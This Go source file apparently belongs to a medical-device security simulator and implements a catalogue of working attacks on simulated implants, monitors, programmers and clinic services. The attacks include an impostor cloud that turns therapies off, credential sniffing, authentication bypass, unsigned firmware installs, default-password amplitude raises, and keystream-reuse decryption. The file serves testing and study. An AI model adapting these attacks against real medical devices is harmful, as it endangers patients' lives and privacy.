// SPDX-FileCopyrightText: 2026 The Myelin authors
// SPDX-License-Identifier: Apache-2.0

package legacy

import (
	"bufio"
	"bytes"
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/tls"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"time"

	"github.com/myelin-health/myelin/internal/testpki"
	"github.com/myelin-health/myelin/sim/radio"
	"github.com/myelin-health/myelin/wire"
)

// A terminal is somebody at a box.
type terminal struct{ *channel }

// do says a line, and returns what stands behind "ok".
func (t *terminal) do(words ...string) (string, error) {
	b, err := t.ask([]byte(strings.Join(words, " ")))
	if err != nil {
		return "", err
	}
	said, fine := strings.CutPrefix(string(b), "ok")
	if !fine {
		return "", errRefused
	}
	return strings.TrimSpace(said), nil
}

// all says lines, each when the one before was done.
func (t *terminal) all(lines ...string) error {
	for _, l := range lines {
		if _, err := t.do(l); err != nil {
			return err
		}
	}
	return nil
}

// bytes says a line, and returns the bytes that come back.
func (t *terminal) bytes(line string) ([]byte, error) {
	s, err := t.do(line)
	if err != nil {
		return nil, err
	}
	b, err := hex.DecodeString(s)
	if err != nil {
		return nil, errSilent
	}
	return b, nil
}

// at is the run of an attack on a box.
func at(do func(*terminal) (how string, loot []byte, err error)) func(context.Context, *Env) (Result, error) {
	return func(ctx context.Context, env *Env) (Result, error) {
		c, err := env.dial(ctx, lines)
		if err != nil {
			return Result{}, err
		}
		defer c.Close()
		return result(do(&terminal{c}))
	}
}

// tries is the run of an attack that says some lines.
func tries(how string, said ...string) func(context.Context, *Env) (Result, error) {
	return at(func(t *terminal) (string, []byte, error) { return how, nil, t.all(said...) })
}

// posts is the run of an attack that asks the app of a clinic, with the default password.
func posts(how string, paths ...string) func(context.Context, *Env) (Result, error) {
	return func(ctx context.Context, env *Env) (Result, error) {
		c, err := env.dial(ctx, web)
		if err != nil {
			return Result{}, err
		}
		defer c.Close()
		for _, path := range paths {
			q := &http.Request{Method: http.MethodPost, URL: &url.URL{Path: path}, Host: "calm.stada.example", Header: http.Header{}}
			if path != "/reset" { // for which nobody is asked
				q.SetBasicAuth(clinicUser, defaultPassword)
			}
			var b bytes.Buffer
			if err := q.Write(&b); err != nil {
				return Result{}, err
			}
			answer, err := c.ask(b.Bytes())
			if err == nil && !bytes.HasPrefix(answer, []byte("HTTP/1.1 2")) {
				err = errRefused
			}
			if err != nil {
				return result("", nil, err)
			}
		}
		return result(how, nil, nil)
	}
}

// takes is the run of an attack that takes what a line brings, if it can be read: if word
// is in it.
func takes(how, line, word string) func(context.Context, *Env) (Result, error) {
	return at(func(t *terminal) (string, []byte, error) {
		b, err := t.bytes(line)
		if err == nil && !bytes.Contains(b, []byte(word)) {
			err = errRefused
		}
		return how, b, err
	})
}

// compose is a frame of ours.
func compose(name, opcode string, fields ...any) []byte {
	b, err := radio.Compose(radio.Sample(name), opcode, fields...)
	if err != nil {
		panic(err)
	}
	return b
}

func therapiesOff() []byte { return compose("halden-mics", "therapies", append(toICD, "state", 0)...) }

// An impostor is somebody to whom a device connects instead of to whom it should.
type impostor struct {
	l  net.Listener
	wg sync.WaitGroup
}

// pretend serves one connection.
func pretend(env *Env, serve func(net.Conn)) (*impostor, error) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	i := &impostor{l: l}
	i.wg.Go(func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		if c.SetDeadline(time.Now().Add(env.patience())) == nil {
			serve(c)
		}
	})
	return i, nil
}

func (i *impostor) addr() string { return i.l.Addr().String() }

// close waits until the impostor is done.
func (i *impostor) close() {
	i.l.Close()
	i.wg.Wait()
}

// asCloud is the run of an attack that has a home monitor report to the attacker, who gives
// it a self-signed certificate and, perhaps, a command for the implant.
func asCloud(how string, command func() []byte) func(context.Context, *Env) (Result, error) {
	return at(func(t *terminal) (string, []byte, error) {
		cert, err := testpki.SelfSigned(cloudName)
		if err != nil {
			return "", nil, err
		}
		var login, report string
		i, err := pretend(t.env, func(c net.Conn) {
			r := bufio.NewReader(c)
			first, err := r.Peek(1)
			if err != nil {
				return
			}
			if first[0] == 'O' { // OPTIONS in clear, before anything is encrypted
				login = overheardLogin(r)
				_, _ = fmt.Fprintf(c, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: %s, HTTP/1.1\r\nConnection: Upgrade\r\n\r\n", upgradeToken)
			}
			s := tls.Server(&bufferedConn{c, r}, &tls.Config{Certificates: []tls.Certificate{cert}})
			defer s.Close()
			if report, err = bufio.NewReader(s).ReadString('\n'); err == nil {
				_, _ = fmt.Fprintf(s, "program %x\n", command())
			}
		})
		if err != nil {
			return "", nil, err
		}
		err = t.all("cloud "+i.addr(), "report")
		i.close()
		return how, []byte(login + report), err
	})
}

// overheardLogin is the name and password of a request in clear, or "".
func overheardLogin(r *bufio.Reader) string {
	q, err := http.ReadRequest(r)
	if err != nil {
		return ""
	}
	q.Body.Close()
	user, password, _ := q.BasicAuth()
	return strings.TrimSpace(user + " " + password)
}

// A bufferedConn is a connection of which something was read ahead.
type bufferedConn struct {
	net.Conn
	r *bufio.Reader
}

func (c *bufferedConn) Read(b []byte) (int, error) { return c.r.Read(b) }

// asUpdates is the run of an attack that gives a programmer an altered program in place of
// an update.
func asUpdates(t *terminal) (string, []byte, error) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", nil, err
	}
	s := &http.Server{ReadHeaderTimeout: t.env.patience(), Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write(alteredImage(therapiesOff()))
	})}
	var wg sync.WaitGroup
	wg.Go(func() { _ = s.Serve(l) })
	err = t.all("updates "+l.Addr().String(), "update")
	s.Close()
	wg.Wait()
	return "an altered program, as an update over HTTP", nil, err
}

// altered says that a program runs that the maker did not sign, and what it did.
func altered(f FirmwareState) bool { return !f.Genuine && f.Runs > 0 }

// urgentZero is a TCP segment (RFC 9293 section 3.1) whose urgent data end before they begin: IPnet takes one away
// from the pointer, and so has 65,535 bytes of them.
var urgentZero = []byte{
	0xc0, 0x31, 0, 23, 0, 0, 0x10, 0, 0, 0, 0x20, 0, 5 << 4, wire.ACK | wire.URG, 0x01, 0xf5, 0, 0, 0, 0,
	'x',
}

// boxAttacks are those on devices that are asked in lines.
var boxAttacks = []Attack{
	{
		Row: "A25", Name: "impostor", Device: "homelink", Realism: Wire, About: "an impostor is the monitor's cloud, and commands the implant",
		Run: asCloud("the monitor reported to an impostor, and passed on 'therapies off'", therapiesOff),
		hurt: hurt(func(b, a HomeLinkState, loot []byte) (bool, string) {
			return a.Unproven > b.Unproven && !a.Implant.Therapies && has(loot, radio.AnnaRecord), "a report to an impostor, whose command turned therapies off"
		}),
	},
	{
		Row: "A26", Name: "credentials", Device: "homelink", Realism: Wire, About: "name and password in clear, before encryption begins",
		Run: at(func(t *terminal) (string, []byte, error) {
			var login string
			i, err := pretend(t.env, func(c net.Conn) {
				login = overheardLogin(bufio.NewReader(c))
			})
			if err != nil {
				return "", nil, err
			}
			err = t.all("cloud " + i.addr())
			if err == nil {
				_, _ = t.do("report") // of which nothing comes
			}
			i.close()
			if login == "" {
				return "", nil, errSilent
			}
			return "the monitor's password heard", []byte(login), err
		}),
		hurt: took("the monitor's password", monitorUser, monitorPassword),
	},
	{
		Row: "A27", Name: "at-rest", Device: "homelink", Realism: Wire, About: "the memory chip has password, serial number and measurements in clear",
		Run:  takes("password, serial number and measurements from the memory chip", "chip", "homelink"),
		hurt: took("password, serial number and record", monitorPassword, radio.ICDSerial, radio.AnnaRecord),
	},
	{
		Row: "A28", Name: "debug", Device: "homelink", Realism: Wire, About: "a password that all units have, and code that was left in, write the implant's memory",
		Run: tries("logged in as root, and the implant's settings overwritten", "login "+monitorRoot, fmt.Sprintf("debug-write %04x 0000000000", MemorySettings)),
		hurt: hurt(func(b, a HomeLinkState, _ []byte) (bool, string) {
			return a.DebugWrites > b.DebugWrites && a.Implant.Written > b.Implant.Written && !a.Implant.Therapies, "the implant's memory written through its monitor: pacing and therapies off"
		}),
	},
	{
		Row: "A29", Name: "upload", Device: "cloud", Realism: Wire, About: "records that no device made are taken",
		Run: tries("a record of 40 episodes that nobody had", "upload home-anna 40"),
		hurt: hurt(func(b, a CloudState, _ []byte) (bool, string) {
			return a.Records > b.Records && a.Episodes == 40, "a false record in the clinic"
		}),
	},
	{
		Row: "A30", Name: "bypass", Device: "reader", Realism: Wire, About: "an empty proof is as good as the right one",
		Run: at(func(t *terminal) (string, []byte, error) {
			err := t.all("hello", "auth")
			if err != nil {
				return "", nil, err
			}
			b, err := t.bytes("read")
			return "let in without a key, and the implant's data read", b, err
		}),
		hurt: hurt(func(b, a ReaderState, loot []byte) (bool, string) {
			return a.Open && a.Told > b.Told && has(loot, radio.AnnaRecord, radio.ICDSerial), "let in without a key; record and serial number read"
		}),
	},
	{
		Row: "A31", Name: "overflow", Device: "reader", Realism: Modelled, About: "a debug command that is longer than its buffer",
		Run: tries("256 bytes for a buffer of 64", "debug 256 "+strings.Repeat("41", 256)),
		hurt: hurt(func(b, a ReaderState, _ []byte) (bool, string) {
			return !b.Overflowed && a.Overflowed, "memory behind a buffer overwritten"
		}),
	},
	{
		Row: "A32", Name: "race", Device: "reader", Realism: Wire, About: "the program is changed between the check and the installation",
		Run: at(func(t *terminal) (string, []byte, error) {
			return "an altered program that passed the check of a genuine one", nil, t.all("stage "+hex.EncodeToString(GenuineImage()), "verify",
				"stage "+hex.EncodeToString(alteredImage(therapiesOff())), "install")
		}),
		hurt: hurt(func(_, a ReaderState, _ []byte) (bool, string) {
			return altered(a.Firmware) && !a.Implant.Therapies, "a program that nobody signed runs, and turned therapies off"
		}),
	},
	{
		Row: "A33", Name: "update", Device: "studio", Realism: Wire, About: "updates over HTTP, from whoever answers",
		Run: at(asUpdates),
		hurt: hurt(func(_, a StudioState, _ []byte) (bool, string) {
			return altered(a.Firmware) && !a.Implant.Therapies, "a program that nobody signed runs in the programmer, and turned therapies off"
		}),
	},
	{
		Row: "A34", Name: "card", Device: "card-programmer", Realism: Wire, About: "the card with the program is rewritten, and the records on it are in clear",
		Run: at(func(t *terminal) (string, []byte, error) {
			b, err := t.bytes("card-read")
			if err != nil {
				return "", nil, err
			}
			image := alteredImage(
				compose("tessel-calm", "highest-amplitude", append(toCalm, "amplitude", 1000, "amplitude-now", 0xfff)...),
				compose("tessel-calm", "amplitude", append(toCalm, "amplitude", 950, "amplitude-now", 0xfff)...))
			return "records read; an altered program on the card ran", b, t.all("card-write "+hex.EncodeToString(image), "start")
		}),
		hurt: hurt(func(_, a CardProgrammerState, loot []byte) (bool, string) {
			return altered(a.Firmware) && a.Stimulator.Amplitude == 950 && has(loot, radio.CleoName), "a program that nobody signed set 9.50 V; a patient's record read"
		}),
	},
	{
		Row: "A35", Name: "media", Device: "studio", Realism: Wire, About: "install media that nobody checks, and parts that are years old",
		Run: at(func(t *terminal) (string, []byte, error) {
			parts, err := t.do("components")
			if err != nil {
				return "", nil, err
			}
			return "an altered program installed from a disk", []byte(parts), t.all("media "+hex.EncodeToString(alteredImage(therapiesOff())), "install")
		}),
		hurt: hurt(func(_, a StudioState, loot []byte) (bool, string) {
			return altered(a.Firmware) && !a.Implant.Therapies && has(loot, Components[1]), "a program that nobody signed runs in the programmer, beside a TLS library of 2014"
		}),
	},
	{
		Row: "A36", Name: "export", Device: "studio", Realism: Wire, About: "exports under a key that all units have",
		Run: at(func(t *terminal) (string, []byte, error) {
			b, err := t.bytes("export")
			if err != nil {
				return "", nil, err
			}
			c, err := aes.NewCipher(exportKey)
			if err != nil {
				return "", nil, err
			}
			g, err := cipher.NewGCM(c)
			if err != nil {
				return "", nil, err
			}
			if len(b) < g.NonceSize() {
				return "", nil, errSilent
			}
			plain, err := g.Open(nil, b[:g.NonceSize()], b[g.NonceSize():], nil)
			if err != nil {
				return "", nil, errRefused
			}
			return "an export decrypted with the key of another unit", plain, nil
		}),
		hurt: took("name and record number of an export", radio.AnnaName, radio.AnnaRecord),
	},
	{
		Row: "A37", Name: "default-password", Device: "clinic-app", Realism: Wire, About: "after a reset the password is the default",
		Run: posts("limit and amplitude raised after a reset", "/reset", "/limit/1000", "/amplitude/950"),
		hurt: hurt(func(b, a ClinicAppState, _ []byte) (bool, string) {
			return a.Resets > b.Resets && a.Stimulator.Highest == 1000 && a.Stimulator.Amplitude == 950, "highest amplitude 10.00 V, amplitude 9.50 V"
		}),
	},
	{
		Row: "A39", Name: "meter", Device: "meter", Realism: Wire, About: "glucose in clear",
		Run:  takes("glucose in clear", "subscribe", "mg/dL"),
		hurt: took("serial number and glucose", fmt.Sprintf("%06x", radio.SensorSerial), meterValue),
	},
	{
		Row: "A40", Name: "sound", Device: "ecg", Realism: Wire, About: "an ECG by sound, which anybody in the room can hear",
		Run: takes("an ECG heard", "listen", "STA-"),
		hurt: hurt(func(b, a SensorState, loot []byte) (bool, string) {
			peak := binary.LittleEndian.AppendUint16(nil, uint16(ecgAt(20)))
			return a.Told > b.Told && bytes.Count(loot, peak) >= 2 && has(loot, radio.AnnaRecord), "record number and an ECG heard"
		}),
	},
	{
		Row: "A41", Name: "deserialisation", Device: "clinic-server", Realism: Modelled, About: "the message service makes objects of any class",
		Run: tries("an object of a foreign class made", `message {"class":"Process"}`),
		hurt: hurt(func(b, a ClinicServerState, _ []byte) (bool, string) {
			return !b.Ran && a.Ran, "code of a message would run"
		}),
	},
	{
		Row: "A42", Name: "urgent-pointer", Device: "ip-stack", Realism: Modelled, About: "a TCP segment with urgent data that end at zero",
		Run: tries("a segment with the urgent flag, and an urgent pointer of zero", "packet "+hex.EncodeToString(urgentZero)),
		hurt: hurt(func(b, a StackState, _ []byte) (bool, string) {
			return !b.Overrun && a.Overrun, "memory behind a packet overrun"
		}),
	},
	{
		Row: "A43", Name: "keystream", Device: "insulin-cloud", Realism: Wire, About: "the same initialisation vector for everybody: what one knows of one's own account opens another's",
		Run: at(func(t *terminal) (string, []byte, error) {
			known := bytes.Repeat([]byte{'x'}, maxLogin)
			if err := t.all("put app-mallory " + hex.EncodeToString(known)); err != nil {
				return "", nil, err
			}
			own, err := t.bytes("fetch app-mallory")
			if err != nil {
				return "", nil, err
			}
			other, err := t.bytes("fetch app-ben")
			if err != nil {
				return "", nil, err
			}
			for i := range min(len(other), len(own), len(known)) {
				other[i] ^= own[i] ^ known[i]
			}
			if !bytes.HasPrefix(other, []byte("user=")) {
				return "", nil, errRefused
			}
			return "another's login decrypted by one's own", other, nil
		}),
		hurt: took("Ben's login", benLogin),
	},
}
